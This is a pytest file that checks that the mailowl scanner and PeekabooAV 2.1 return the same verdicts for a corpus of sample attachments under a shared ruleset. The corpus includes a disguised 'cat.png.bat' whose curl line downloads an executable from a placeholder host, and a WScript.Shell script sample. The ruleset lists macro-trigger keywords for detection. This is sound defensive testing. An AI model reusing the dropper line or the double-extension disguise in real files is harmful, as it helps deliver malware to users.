"""PeekabooAV 2.1 and mailowl judge the same files with the same ruleset.conf: the verdicts must agree.

PeekabooAV runs as a real process from .venv-peekaboo (installed by `scripts/bootstrap --test`); both are
sent byte-identical v1 requests.
"""

from __future__ import annotations

import gzip
import io
import json
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from .server import Process, Server, free_port

ROOT = Path(__file__).parent.parent
PEEKABOO = ROOT / ".venv-peekaboo" / "bin" / "peekaboo"
OFFICE = Path(__file__).parent / "data" / "office"

RULESET = """\
[rules]
rule.1 : known
rule.2 : file_larger_than
rule.3 : file_type_on_whitelist
rule.4 : file_type_on_greylist
rule.5 : office_macro
rule.6 : office_macro_with_suspicious_keyword
rule.7 : expressions
rule.8 : final_rule

[file_larger_than]
bytes : 5

[file_type_on_whitelist]
whitelist.1 : text/plain
whitelist.2 : message/rfc822
whitelist.3 : inode/x-empty
whitelist.4 : application/pkcs7-signature
whitelist.8 : text/html

[file_type_on_greylist]
greylist.1  : application/octet-stream
greylist.2  : application/vnd.ms-excel
greylist.3  : application/pdf
greylist.4  : application/javascript
greylist.5  : application/vnd.ms-word.document.macroEnabled.12
greylist.6  : application/x-dosexec
greylist.7  : application/zip
greylist.8  : application/msword
greylist.9  : text/x-msdos-batch
greylist.10 : text/x-sh
greylist.11 : image/png
greylist.12 : application/vnd.ms-powerpoint
greylist.13 : text/x-python
greylist.14 : application/gzip

[office_macro_with_suspicious_keyword]
keyword.1 : AutoOpen
keyword.2 : AutoClose

[expressions]
expression.1 : {sample.type_declared}|filereport.mime_types <= {'text/plain', 'inode/x-empty'} -> ignore
expression.2 : sample.name_declared == /smime.p7[mcs]/
                   and sample.type_declared in {'application/pkcs7-signature', 'application/x-pkcs7-mime'} -> ignore
expression.3 : sample.content_disposition == 'inline'
                   and sample.type_declared in {'image/png', 'image/jpeg'} -> ignore
expression.4 : sample.file_extension in {'bat', 'cmd', 'exe', 'js', 'vbs'} -> bad
expression.5 : /python/ in filereport.type_as_text -> good
expression.6 : filereport.type_by_content == 'application/zip' and sample.file_size > 100 -> unknown
expression.7 : sample.file_size > 2 ** 12 and not sample.file_extension -> fail
expression.8 : sample.filename == /.*\\\\.(docm|xls)/ and [1, 2] != [2] -> good
"""

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00" + b"\x00" * 40


def corpus() -> list[tuple[str, bytes, str, str | None]]:
    """(filename, content, declared type, X-Content-Disposition)"""
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as zf:
        zf.writestr("readme.txt", "hello " * 50)
    files: list[tuple[str, bytes, str, str | None]] = [
        ("cat.png.bat", b"@echo off\r\ncurl http://x.invalid/c.exe -o c.exe\r\n", "application/octet-stream", None),
        ("notes.txt", b"Meeting notes: bring the quarterly slides.\n" * 3, "text/plain", None),
        ("notes2.txt", b"Meeting notes: declared as octet stream.\n" * 3, "application/octet-stream", None),
        ("tiny.bin", b"abc", "application/octet-stream", None),
        ("empty.dat", b"", "application/octet-stream", None),
        ("tool.exe", b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00" + b"\x01" * 200, "application/octet-stream", None),
        ("report.pdf", b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n", "application/pdf", None),
        ("smime.p7s", b"0\x82\x05\x00" + b"\x06\x09*\x86H\x86\xf7\r\x01\x07\x02" + b"\x00" * 100,
         "application/pkcs7-signature", None),
        ("logo.png", PNG, "image/png", "inline"),
        ("logo2.png", PNG + b"\x01", "image/png", "attachment"),
        ("script.js", b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');\n", "application/javascript", None),
        ("page.html", b"<html><body><p>Hello</p></body></html>\n", "text/html", None),
        ("run.py", b"#!/usr/bin/env python3\nimport os\nprint(os.getcwd())\n", "text/x-python", None),
        ("photo.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + b"\x00" * 30, "image/gif", None),
        ("archive.zip", zipped.getvalue(), "application/zip", None),
        ("data.gz", gzip.compress(b"zeros" * 100), "application/gzip", None),
        ("noext", b"\x00\x01\x02" * 2000, "application/octet-stream", None),
        ("query.jpg?resize=600", b"\xff\xd8\xff\xe0" + b"\x00" * 100, "image/jpeg", None),
    ]
    for path in sorted(OFFICE.glob("*.*")):
        if path.suffix in {".docm", ".ppt", ".xls"}:
            ctype = {".docm": "application/vnd.ms-word.document.macroEnabled.12",
                     ".ppt": "application/vnd.ms-powerpoint", ".xls": "application/vnd.ms-excel"}[path.suffix]
            files.append((path.name, path.read_bytes(), ctype, None))
    return files


def peekaboo(tmp: Path) -> Process:
    (tmp / "analyzers.conf").write_text("")
    (tmp / "ruleset.conf").write_text(RULESET)
    return peekaboo_with(tmp, tmp / "ruleset.conf", tmp / "analyzers.conf")


def peekaboo_with(tmp: Path, ruleset: Path, analyzers: Path) -> Process:
    """PeekabooAV 2.1 on SQLite in ``tmp`` with the given ruleset.conf and analyzers.conf."""
    port = free_port()
    (tmp / "reports").mkdir()
    (tmp / "peekaboo.conf").write_text(
        f"[global]\nuser : root\ngroup : root\nhost : 127.0.0.1\nport : {port}\nworker_count : 2\n"
        f"processing_info_dir : {tmp / 'reports'}\n[ruleset]\nconfig : {ruleset}\n"
        f"[analyzers]\nconfig : {analyzers}\n[logging]\nlog_level : WARNING\n"
        f"[db]\nurl : sqlite:///{tmp / 'peekaboo.db'}\n")
    return Process(tmp, [str(PEEKABOO), "-c", str(tmp / "peekaboo.conf")], port, "/ping")


@pytest.fixture(scope="module")
def both(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Server, Server]]:
    if not PEEKABOO.exists():
        pytest.skip("PeekabooAV 2.1 is not installed in .venv-peekaboo (scripts/bootstrap --test installs it)")
    pk_dir = tmp_path_factory.mktemp("peekaboo")
    pk = peekaboo(pk_dir)
    owl_dir = tmp_path_factory.mktemp("mailowl")
    owl = Server(owl_dir, ruleset=str(pk_dir / "ruleset.conf"))  # the very same file
    yield pk.client, owl
    owl.stop()
    pk.stop()


def verdict_v1(server: Server, name: str, content: bytes, ctype: str, disposition: str | None) -> str:
    status, payload, _ = server.scan(content, name, ctype, disposition_header=disposition)
    assert status == 200, (name, payload)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        status, report, _ = server.request("GET", f"/v1/report/{payload['job_id']}")
        if status == 200:
            return str(report["result"])
        time.sleep(0.05)
    raise AssertionError(f"no verdict for {name}")


def test_same_verdicts_as_peekaboo(both: tuple[Server, Server]) -> None:
    peekaboo, owl = both
    files = corpus()
    for round_ in ("fresh", "known"):
        theirs = {name: verdict_v1(peekaboo, name, c, t, d) for name, c, t, d in files}
        ours = {name: verdict_v1(owl, name, c, t, d) for name, c, t, d in files}
        differing = {n: (theirs[n], ours[n]) for n in theirs if theirs[n] != ours[n]}
        assert not differing, f"{round_}: (peekaboo, mailowl) differ: {json.dumps(differing)}"
    results = set(ours.values())
    assert {"bad", "ignored", "unknown", "good"} <= results, results  # the corpus exercises many outcomes
